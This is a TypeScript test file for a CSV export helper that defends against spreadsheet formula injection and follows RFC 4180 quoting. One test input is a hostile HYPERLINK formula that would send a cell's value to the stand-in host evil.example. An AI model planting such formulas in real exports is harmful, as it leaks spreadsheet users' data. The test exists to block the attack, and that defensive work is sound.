import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, csvRecord } from './csv.ts';

describe('csvField', () => {
  it('prefixes a single quote to every value a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
    );
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1+1')).toBe("'-1+1");
    expect(csvField('@x')).toBe("'@x");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leaves other values as they are, a formula character inside a value included', () => {
    expect(csvField('Ada Lovelace')).toBe('Ada Lovelace');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('ada+news@example.com')).toBe('ada+news@example.com');
    expect(csvField('山田 太郎')).toBe('山田 太郎');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(42)).toBe('42');
    expect(csvField(true)).toBe('true');
  });

  it('quotes fields with commas, quotes and line breaks, doubling the quotes (RFC 4180 §2.6-2.7)', () => {
    expect(csvField('Lovelace, Ada')).toBe('"Lovelace, Ada"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
  });

  it('round-trips hostile values through a standard CSV parser, the quote prefix being the only change', () => {
    const values = ['=1+2', '+1', '-1', '@x', '\tx', 'a,"b"\r\nc', ' padded ', 'plain', '"', ','];
    const [parsed] = parse(csvRecord(values)) as string[][];
    expect(parsed).toEqual(values.map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v)));
  });
});

describe('csvRecord', () => {
  it('ends each record with CRLF (RFC 4180 §2.1)', () => {
    expect(csvRecord(['a', 'b', null])).toBe('a,b,\r\n');
  });
});
